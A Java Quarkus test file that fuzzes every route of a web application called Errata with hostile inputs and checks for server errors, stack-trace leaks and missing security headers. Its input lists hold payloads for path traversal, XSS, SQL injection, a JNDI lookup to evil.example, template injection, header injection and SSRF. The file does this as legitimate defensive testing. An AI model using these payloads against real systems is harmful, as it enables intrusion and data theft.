package org.errata.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import org.errata.system.Routes;
import org.errata.system.Session;
import org.junit.jupiter.api.Test;

/**
 * The attack that stays in the project: every route, found in the code, gets hostile input of every
 * kind (wrong types, sizes, encodings, control characters, deep JSON, huge numbers, traversal,
 * header injection), anonymously, signed in and over the API. Whatever comes in, nothing answers
 * 5xx, no body shows a stack trace or a class name, and every answer carries the security headers.
 */
@QuarkusTest
class HostileInputTest {

  /** Strings a careless or hostile client sends. */
  static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "\u202E",
          "\u202Egnp.exe",
          "\r\nX-Injected: yes",
          "%",
          "%G1",
          "%00",
          "%E2%80",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' OR '1'='1' --",
          "1; DROP TABLE account; --",
          "${jndi:ldap://evil.example/x}",
          "{inject:csrf.token}",
          "{{7*7}}",
          "#{7*7}",
          "-1",
          "0",
          "99999999999999999999999999",
          "1e309",
          "NaN",
          "true",
          "null",
          "[]",
          "{}",
          "😀 emoji and 漢字",
          "a".repeat(3000),
          "x".repeat(70_000),
          "https://user:pass@evil.example:99999/a?b#c",
          "javascript:alert(1)",
          "file:///etc/passwd",
          "http://169.254.169.254/latest/meta-data/",
          "\uFEFFbom");

  /** Values for a path segment, already encoded as they would appear in a request line. */
  static final List<String> SEGMENTS =
      List.of(
          "0",
          "-1",
          "99999999999999999999",
          "abc",
          "1.5",
          "%00",
          "..%2F..%2Fetc%2Fpasswd",
          "%E2%80%AE",
          "%0d%0aX-Injected:%20yes",
          "1%3BDROP%20TABLE%20account",
          "a".repeat(3000),
          "%");

  static final List<String> JSON_BODIES =
      List.of(
          "",
          "null",
          "[]",
          "[1,2,3]",
          "\"text\"",
          "42",
          "{",
          "{\"a\":}",
          "{}",
          "{\"articleUrl\":12,\"passage\":true,\"sources\":{}}",
          "{\"version\":\"abc\"}",
          "{\"version\":1e400}",
          "{\"version\":99999999999999999999999}",
          "{\"sources\":[null,1,\"x\",{\"title\":[]}]}",
          "{\"comment\":{\"nested\":true}}",
          "{\"override\":[]}",
          "{\"reason\":\"\\u0000\"}",
          "{\"passage\":\"\\ud800\"}",
          "{\"body\":\"x\",\"field\":\"../../etc\"}",
          "{\"a\":1}{\"b\":2}",
          "\uFEFF{}",
          "[".repeat(5000) + "]".repeat(5000),
          "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
          "{\"articleUrl\":\"" + "a".repeat(2_200_000) + "\"}");

  static final List<Map<String, String>> HEADERS =
      List.of(
          Map.of("Accept", "*/*;q=abc"),
          Map.of("Accept", "text/html;q=2"),
          Map.of("Accept", "garbage"),
          Map.of("Accept", "application/json"),
          Map.of("Accept-Charset", "x-nope"),
          Map.of("Accept-Language", "\u00ff\u00fe"),
          Map.of("Content-Type", "application/x-www-form-urlencoded; charset=x-nope"),
          Map.of("Content-Type", "multipart/form-data"),
          Map.of("Content-Type", "text/html;;;"),
          Map.of("Cookie", "errata-session=garbage.garbage"),
          Map.of("Cookie", "errata-session=" + "a".repeat(2000)),
          Map.of("Cookie", "errata-form=\u00e9\u00e9"),
          Map.of("Host", "evil.example"),
          Map.of("X-Forwarded-For", "not an address"),
          Map.of("X-Forwarded-Proto", "gopher"),
          Map.of("If-None-Match", "\"unterminated"),
          Map.of("If-Modified-Since", "yesterday"),
          Map.of("Range", "bytes=-1-2-3"),
          Map.of("Authorization", "Basic !!!not-base64!!!"),
          Map.of("Authorization", "Bearer "),
          Map.of("Authorization", "Digest x"),
          Map.of("X-HTTP-Method-Override", "DELETE"),
          Map.of("Content-Length", "abc"));

  static final Pattern LEAK =
      Pattern.compile(
          "(?m)(^\\s+at [a-zA-Z_$][\\w$]*\\.|Exception[:\\s]|java\\.(lang|util|io)\\.|org\\.jboss\\."
              + "|io\\.quarkus\\.|io\\.vertx\\.|org\\.hibernate\\.|org\\.h2\\.|org\\.errata\\.|"
              + "com\\.fasterxml\\.)");

  final Map<Integer, Integer> statuses = new TreeMap<>();
  final List<String> failures = new ArrayList<>();
  int sent;
  int refusedByTheHttpLayer;

  @Test
  void noHostileInputGetsA5xxAStackTraceOrAnAnswerWithoutTheSecurityHeaders() {
    List<Routes.Route> routes = Routes.all();
    assertTrue(routes.size() >= 40, "found only " + routes.size() + " routes");
    Session editor = Session.signIn("ada");
    String token = editor.token("/editor");

    for (Routes.Route route : routes) {
      List<Supplier<RequestSpecification>> askers = askers(route, editor);
      // Hostile path segments.
      if (!route.pathParams().isEmpty()) {
        for (String segment : SEGMENTS) {
          for (Supplier<RequestSpecification> asker : askers) {
            send(route, asker.get(), route.with(segment), r -> withToken(route, r, token));
          }
        }
      }
      String path = route.with("1");
      // Hostile query parameters.
      for (String q : route.queryParams()) {
        for (String value : STRINGS) {
          send(
              route,
              askers.get(askers.size() - 1).get().queryParam(q, value),
              path,
              r -> withToken(route, r, token));
        }
      }
      // Hostile form fields, one at a time and all at once, with the right token so they get in.
      if (!route.isApi() && route.changesState()) {
        for (String value : STRINGS) {
          RequestSpecification all =
              editor.request().contentType(form()).formParam("csrf-token", token);
          for (String f : route.formParams()) {
            all.formParam(f, value);
            send(
                route,
                editor
                    .request()
                    .contentType(form())
                    .formParam("csrf-token", token)
                    .formParam(f, value),
                path,
                r -> r);
          }
          send(route, all, path, r -> r);
        }
        // Raw bodies a form parser must survive.
        for (String raw :
            List.of(
                "csrf-token=" + token + "&passage=%",
                "csrf-token=" + token + "&passage=%G1&summary=%E2%80",
                "csrf-token=" + token + "&" + "p=1&".repeat(1500),
                "csrf-token=" + token + "&sourceTitle=" + "x&sourceTitle=".repeat(300))) {
          send(route, editor.request().contentType(form()).body(raw), path, r -> r);
        }
        send(
            route,
            editor
                .request()
                .contentType("multipart/form-data; boundary=XX")
                .body(
                    "--XX\r\nContent-Disposition: form-data; name=\"csrf-token\"\r\n\r\n" + token),
            path,
            r -> r);
      }
      // Hostile JSON bodies on the API.
      if (route.isApi() && route.changesState()) {
        for (String body : JSON_BODIES) {
          send(route, api().contentType("application/json").body(body), path, r -> r);
        }
        send(route, api().contentType("text/plain").body("just text"), path, r -> r);
        send(route, api().body(new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}), path, r -> r);
      }
      // Hostile headers (on the API anonymously: the credentials are hostile enough elsewhere).
      for (Map<String, String> headers : HEADERS) {
        for (Supplier<RequestSpecification> asker : route.isApi() ? askers.subList(0, 1) : askers) {
          RequestSpecification r = asker.get();
          headers.forEach(r::header);
          send(route, r, path, x -> withToken(route, x, token));
        }
      }
    }
    System.out.println(
        "Hostile inputs: "
            + sent
            + " requests over "
            + routes.size()
            + " routes; statuses "
            + statuses
            + "; refused by the HTTP layer with an empty body: "
            + refusedByTheHttpLayer);
    assertTrue(sent >= 1000, "only " + sent + " requests");
    assertEquals(List.of(), failures);
  }

  private List<Supplier<RequestSpecification>> askers(Routes.Route route, Session editor) {
    List<Supplier<RequestSpecification>> askers = new ArrayList<>();
    askers.add(HostileInputTest::anonymous);
    askers.add(route.isApi() ? HostileInputTest::api : editor::request);
    return askers;
  }

  static RequestSpecification anonymous() {
    return RestAssured.given().redirects().follow(false);
  }

  static RequestSpecification api() {
    return RestAssured.given()
        .redirects()
        .follow(false)
        .auth()
        .preemptive()
        .basic("ada", "errata-demo");
  }

  private static RequestSpecification withToken(
      Routes.Route route, RequestSpecification r, String token) {
    return route.changesState() && !route.isApi() ? r.formParam("csrf-token", token) : r;
  }

  private static String form() {
    return "application/x-www-form-urlencoded";
  }

  private void send(
      Routes.Route route,
      RequestSpecification request,
      String path,
      UnaryOperator<RequestSpecification> finish) {
    Response response;
    try {
      response =
          finish
              .apply(request)
              .config(
                  RestAssuredConfig.config()
                      .encoderConfig(
                          EncoderConfig.encoderConfig()
                              .appendDefaultContentCharsetToContentTypeIfUndefined(false)))
              .urlEncodingEnabled(false)
              .request(route.method(), path);
    } catch (Exception e) {
      // The client itself could not send it (an illegal header value, say): not an input we made.
      return;
    }
    sent++;
    int status = response.statusCode();
    statuses.merge(status, 1, Integer::sum);
    String what = route + " as " + path.substring(0, Math.min(80, path.length()));
    if (status >= 500) {
      failures.add(what + ": " + status);
    }
    String body = response.asString();
    if (LEAK.matcher(body).find()) {
      failures.add(
          what + ": the body shows internals: " + body.substring(0, Math.min(300, body.length())));
    }
    boolean bare = body.isEmpty() && (status == 400 || status == 414 || status == 431);
    if (bare) {
      // Not HTTP at all (a raw % or a space in the request line, a Content-Length that is not a
      // number, a line past 64 KiB): the HTTP layer refuses it, with an empty body, before Errata
      // sees it. Nothing is shown, so there is nothing for the headers to protect.
      refusedByTheHttpLayer++;
    } else if (response.header("Content-Security-Policy") == null
        || response.header("X-Content-Type-Options") == null) {
      failures.add(what + ": " + status + " without the security headers");
    }
  }

  static String encoded(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }
}
